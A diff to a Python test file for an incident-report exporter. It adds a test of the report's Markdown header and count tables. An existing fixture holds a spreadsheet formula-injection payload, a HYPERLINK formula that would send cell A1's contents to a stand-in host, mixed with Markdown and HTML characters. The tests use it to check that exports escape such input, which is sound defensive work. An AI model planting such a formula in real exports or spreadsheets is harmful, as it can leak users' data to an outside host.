@@ -10,7 +10,7 @@ from datetime import timedelta
 
 import pytest
 
-from bot.cards.export import COLUMNS, incident_json, neutral
+from bot.cards.export import COLUMNS, Summary, incident_json, markdown_head, neutral
 from bot.errors import UsageError
 from bot.exports import Form, Selection, walk, write_incidents
 from bot.model import Actor, Step
@@ -19,6 +19,7 @@ from bot.store import incidents, marks
 from bot.store.exported import load_range
 from bot.store.followed import load_followed
 from bot.store.sight import Sight
+from tests.card_house import ENTRIES
 from tests.store_house import FINDING, NOON, opened, opening, plans
 
 HOSTILE = '=HYPERLINK("http://x.example/"&A1),\n|`*bold*` <b>x</b>'
@@ -121,6 +122,45 @@ def test_a_report_counts_first_and_formats_nothing_of_a_paste(store):
         "| ---: | --- | --- | --- | --- | --- | --- | --- |",
         r"| 1 | 2026\-11\-24 12:00 | new | nobody | words that no page knows | 550 5\.1\.1 | ana@example\.com |"
         r" =HYPERLINK\(\"http://x\.example/\"\&A1\), \|\`\*bold\*\` \<b\>x\</b\> |".replace('\\"', '"'),
+    ]
+
+
+def test_a_report_begins_with_what_it_counts_in_order():
+    summary = Summary()
+    summary.add("auth", "postfix", "535-authentication-failed", resolved=True, n=1_000)
+    summary.add("auth", None, "gone-since", resolved=False, n=2)
+    summary.add(None, "postfix", None, resolved=True, n=3)
+    assert list(markdown_head("1 to 7 November 2026", summary, ENTRIES)) == [
+        "# Incidents, 1 to 7 November 2026",
+        "",
+        "1,005 incidents: 1,003 resolved, 2 open. Times are UTC.",
+        "",
+        "## Families",
+        "",
+        "| families | incidents |",
+        "| --- | ---: |",
+        "| Login | 1,002 |",
+        "| Reason not given | 3 |",
+        "",
+        "## Providers",
+        "",
+        "| providers | incidents |",
+        "| --- | ---: |",
+        "| Postfix | 1,003 |",
+        "| not known | 2 |",
+        "",
+        "## Errors",
+        "",
+        "| errors | incidents |",
+        "| --- | ---: |",
+        "| 535 Authentication failed | 1,000 |",
+        "| words that no page knows | 3 |",
+        "| gone\\-since | 2 |",
+        "",
+        "## All of them",
+        "",
+        "| number | opened | state | owner | error | code | address | the server's words |",
+        "| ---: | --- | --- | --- | --- | --- | --- | --- |",
     ]
 
 
